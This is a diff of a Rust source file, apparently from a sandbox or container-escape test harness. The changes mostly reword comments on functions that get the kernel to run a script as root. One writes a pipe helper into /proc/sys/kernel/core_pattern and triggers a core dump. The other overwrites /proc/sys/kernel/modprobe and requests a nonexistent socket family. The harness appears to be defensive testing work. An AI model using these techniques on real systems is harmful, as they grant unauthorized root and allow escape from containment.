@@ -1,4 +1,4 @@
-//! Root has the kernel start programs: helpers of user mode run as root, started by no process of root's.
+//! Attacks by usermode helpers, which the kernel starts as root and which are no children of the attacker's processes.
 
 use std::{fs, os::unix::fs::PermissionsExt, path::Path};
 
@@ -46,7 +46,7 @@ const HELPER: &str = "/run/attacks/helper";
 const ANSWER: &str = "/run/attacks/helper.answer";
 const DONE: &str = "/run/attacks/helper.done";
 
-/// Writes the helper's script, has something start it, and waits until it has ended.
+/// Writes the helper's script, makes the kernel start it, and waits until it has ended.
 fn helped(line: &str, start: impl FnOnce() -> Result<()>) -> Result<()> {
     let _ = fs::remove_file(DONE);
     fs::write(HELPER, format!("#!/bin/busybox sh\nexport PATH=/bin\n{line}\n: > {DONE}\n"))?;
@@ -56,17 +56,17 @@ fn helped(line: &str, start: impl FnOnce() -> Result<()>) -> Result<()> {
     Ok(())
 }
 
-/// A process ends with a core dump.
+/// Starts the helper by the core dump of a process.
 fn by_core_pattern(line: &str) -> Result<()> {
     const PATTERN: &str = "/proc/sys/kernel/core_pattern";
     let before = fs::read_to_string(PATTERN)?;
     let answer = helped(line, || {
         fs::write(PATTERN, format!("|{HELPER}")).with_context(|| format!("write {PATTERN}"))?;
-        // SAFETY: the copy of a process with one thread ends itself at once.
+        // SAFETY: this process has one thread, and the child ends itself at once.
         let child = unsafe { libc::fork() };
         if child == 0 {
             let limit = libc::rlimit { rlim_cur: libc::RLIM_INFINITY, rlim_max: libc::RLIM_INFINITY };
-            // SAFETY: a live limit; then an end that is asked for.
+            // SAFETY: the limit lives through the call, the prctl takes numbers only, and abort ends the child.
             unsafe {
                 libc::setrlimit(libc::RLIMIT_CORE, &raw const limit);
                 libc::prctl(libc::PR_SET_DUMPABLE, 1);
@@ -74,7 +74,7 @@ fn by_core_pattern(line: &str) -> Result<()> {
             }
         }
         ensure!(child > 0, "fork: {}", std::io::Error::last_os_error());
-        // SAFETY: waits for a child of this process; no status is wanted.
+        // SAFETY: waitpid takes a null pointer when no status is wanted; the child is this process's.
         unsafe { libc::waitpid(child, std::ptr::null_mut(), 0) };
         Ok(())
     });
@@ -82,13 +82,13 @@ fn by_core_pattern(line: &str) -> Result<()> {
     answer
 }
 
-/// A socket of a family that no kernel has is asked for.
+/// Starts the helper by a request for a socket family that no kernel has.
 fn by_modprobe(line: &str) -> Result<()> {
     const MODPROBE: &str = "/proc/sys/kernel/modprobe";
     let before = fs::read_to_string(MODPROBE)?;
     let answer = helped(line, || {
         fs::write(MODPROBE, HELPER).with_context(|| format!("write {MODPROBE}"))?;
-        // SAFETY: takes numbers only.
+        // SAFETY: socket takes numbers only.
         let socket = unsafe { libc::socket(26, libc::SOCK_DGRAM, 0) };
         ensure!(socket < 0, "there is such a family of sockets, and no module was asked for");
         Ok(())
@@ -97,7 +97,7 @@ fn by_modprobe(line: &str) -> Result<()> {
     answer
 }
 
-/// Every door, knocked at by the helper.
+/// Tries every door from the helper.
 fn knock(start: fn(&str) -> Result<()>) -> Result<Tried> {
     let undo = Undo("rm -f /run/attacks/helper.answer");
     start(&format!("/init --attack-doors > {ANSWER}"))?;
